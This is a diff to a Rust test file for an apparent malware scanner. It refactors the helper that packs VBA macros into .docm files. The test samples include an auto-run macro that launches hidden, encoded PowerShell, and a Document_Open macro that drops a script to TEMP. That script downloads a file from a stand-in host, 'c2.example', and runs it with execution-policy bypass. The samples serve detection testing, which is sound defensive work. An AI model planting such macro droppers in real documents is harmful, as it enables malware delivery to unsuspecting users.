@@ -3,25 +3,10 @@
 // The helpers of a test fail as the test does.
 #![allow(clippy::unwrap_used, clippy::indexing_slicing)]
 
-use std::io::{Cursor, Write};
+mod campaign;
+
+use campaign::docm;
 use strongroom_model::{Limits, Report, Role, Verdict};
-use zip::ZipWriter;
-use zip::write::SimpleFileOptions;
-
-const TYPES: &str = "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
-
-fn document(macros: &str) -> Vec<u8> {
-    let project = strongroom_files::write_vba_project(&[("ThisDocument", macros)]);
-    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
-    for (name, bytes) in [
-        ("[Content_Types].xml", TYPES.as_bytes()),
-        ("word/vbaProject.bin", &project),
-    ] {
-        writer.start_file(name, SimpleFileOptions::default()).unwrap();
-        writer.write_all(bytes).unwrap();
-    }
-    writer.finish().unwrap().into_inner()
-}
 
 fn encoded(script: &str) -> String {
     use base64::Engine;
@@ -47,7 +32,7 @@ fn a_macro_is_followed_through_its_encoded_command_to_the_address() {
     let macros = format!(
         "Sub AutoOpen()\n  Dim c\n  c = \"power\" & \"shell -nop -w hidden -enc {command}\"\n  Shell c, 0\nEnd Sub\n"
     );
-    let report = examine("offer.docm", &document(&macros));
+    let report = examine("offer.docm", &docm(&macros));
     assert_eq!(report.verdict(), Verdict::Malicious);
     let codes = codes(&report);
     for code in [
@@ -77,7 +62,7 @@ fn a_script_that_a_macro_writes_and_starts_is_read() {
     let macros = "Sub Document_Open()\n  Dim f, p\n  p = Environ(\"TEMP\") & \"\\qwerty.ps1\"\n  f = FreeFile\n  \
          Open p For Output As #f\n  Print #f, \"Invoke-WebRequest -Uri https://c2.example/a -OutFile a.bin\"\n  Close #f\n  \
          Shell \"powershell -ep bypass -f \" & p, 0\nEnd Sub\n";
-    let report = examine("offer.docm", &document(macros));
+    let report = examine("offer.docm", &docm(macros));
     assert_eq!(report.verdict(), Verdict::Malicious);
     assert!(
         codes(&report).contains(&"macro.auto-run-drop"),
